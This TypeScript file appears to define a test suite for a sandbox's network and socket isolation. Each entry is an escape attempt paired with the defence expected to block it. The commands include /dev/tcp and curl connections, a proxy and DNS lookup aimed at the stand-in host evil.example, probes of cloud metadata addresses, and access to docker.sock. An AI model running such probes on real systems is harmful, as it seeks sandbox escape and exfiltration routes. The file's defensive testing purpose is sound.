import { type Attack, attacksOf } from "./attack.ts";

const tcp = (host: string) =>
  `exec 9<>/dev/tcp/${host}/$PORT && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&9 && cat <&9`;
/** Networks and sockets. */
export const reach: readonly Attack[] = [
  ...attacksOf("network", { defence: "a network namespace of its own" }, [
    {
      name: "a service of this machine",
      command: tcp("127.0.0.1"),
      bare: "hits",
      pass: /refused|unreachable/,
    },
    { name: "a service of this machine by its name", command: tcp("localhost"), bare: "hits" },
    {
      name: "a service of this machine by another loopback address",
      command: tcp("127.3.2.1"),
      bare: "hits",
    },
    { name: "a service of this machine by the address of nothing", command: tcp("0.0.0.0"), bare: "hits" },
    { name: "a service of this machine by a mapped address", command: tcp("::ffff:127.0.0.1"), bare: "hits" },
    {
      name: "a service of this machine by curl",
      command: "curl -sm60 --noproxy '*' http://127.0.0.1:$PORT/",
      bare: "hits",
    },
    {
      name: "a service of this machine with a proxy set by itself",
      command: "http_proxy=http://127.0.0.1:$PORT curl -sm60 http://evil.example/",
      bare: "hits",
    },
    { name: "a service of this machine by UDP", command: "echo x > /dev/udp/127.0.0.1/$UDP", bare: "hits" },
    {
      name: "a service of this machine by git",
      command: "git -c http.proxy= ls-remote http://127.0.0.1:$PORT/o/r 2>&1 | head -c 300",
      bare: "hits",
    },
    {
      name: "a service of this machine by socat",
      command: "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | socat -t60 - TCP:127.0.0.1:$PORT",
      bare: "hits",
    },
    {
      name: "the machine's interfaces",
      command: "tail -n +3 /proc/net/dev | cut -d: -f1 | grep -v lo && echo HIT; echo over",
      bare: "not run",
      pass: /^over\n$/,
    },
    {
      name: "the machine's connections",
      command: "[ $(wc -l < /proc/net/tcp) -gt 1 ] && echo HIT; true",
      bare: "hits",
    },
    {
      name: "other machines and metadata services",
      command:
        'for h in 1.1.1.1 169.254.169.254 168.63.129.16 10.0.0.1; do timeout 60 bash -c ": < /dev/tcp/$h/80" && echo HIT; done; echo over',
      bare: "not run",
      pass: /unreachable.*over\n$/s,
    },
    {
      name: "names by DNS",
      command:
        "timeout 60 getent hosts secret.evil.example && echo HIT; echo x > /dev/udp/8.8.8.8/53 && echo HIT; echo over",
      bare: "not run",
      pass: /unreachable.*over\n$/s,
    },
    {
      name: "ping",
      command:
        'perl -MSocket -e \'socket(S,2,3,1) and print "HIT\\n"; socket(S,17,3,0) and print "HIT\\n"; print "over\\n"\'',
      bare: "misses",
      pass: /^over\n$/,
      defence: "the system call filter",
    },
    {
      name: "a tunnel of its own",
      command:
        "ip link add evil type dummy && echo HIT; ip tuntap add evil mode tun && echo HIT; ls /dev/net/tun && echo HIT; echo over",
      bare: "not run",
      pass: /over\n$/,
      defence: "no capabilities",
    },
  ]),
  ...attacksOf("sockets", { defence: "an allow-list of what exists inside" }, [
    {
      name: "docker's socket",
      command: "printf x | socat -t60 - UNIX-CONNECT:$JOB/docker.sock",
      bare: "hits",
    },
    {
      name: "an abstract socket",
      command: "printf x | socat -t60 - ABSTRACT-CONNECT:$ABSTRACT",
      bare: "hits",
      defence: "a network namespace of its own",
    },
    {
      name: "an abstract socket by its name in /proc/net/unix",
      command: "grep -q $ABSTRACT /proc/net/unix && echo HIT; true",
      bare: "hits",
      defence: "a network namespace of its own",
    },
    {
      name: "every socket on the disk",
      command:
        "find / -xdev -type s 2>/dev/null | grep -q . && echo HIT; find $JOB -type s -exec sh -c 'printf x | socat -t60 - UNIX-CONNECT:$1' sh {} \\;",
      bare: "hits",
    },
    {
      name: "sockets below /run",
      command:
        "find /run /var/run/ ! -type d ! -path '/run/tiny-backspace/*' ! -path '/run/git-objects/*' 2>/dev/null | grep -q . && echo HIT; ls /run",
      bare: "not run",
      pass: /^(git-objects\n)?tiny-backspace\n$/,
    },
    {
      name: "a named pipe of the runner",
      command: "(echo evil 1<>$JOB/listener) && cat $JOB/docker.sock; [ -p $JOB/listener ] && echo HIT; true",
      bare: "hits",
    },
    perlScript("the machine's virtual sockets", 'socket(S, 40, 1, 0) and print "HIT\\n"; print "over\\n"'),
    perlScript("the kernel's crypto sockets", 'socket(S, 38, 5, 0) and print "HIT\\n"; print "over\\n"'),
    perlScript(
      "bluetooth, CAN and other families",
      'for (9,11,21,29,30,31,39,42,44) { socket(S, $_, 2, 0) and print "HIT\\n" } print "over\\n"',
    ),
  ]),
];

function perlScript(name: string, script: string): Omit<Attack, "class"> {
  return {
    name,
    command: `perl -e '${script}'`,
    bare: "not run",
    pass: /^over\n$/,
    defence: "the system call filter",
  };
}
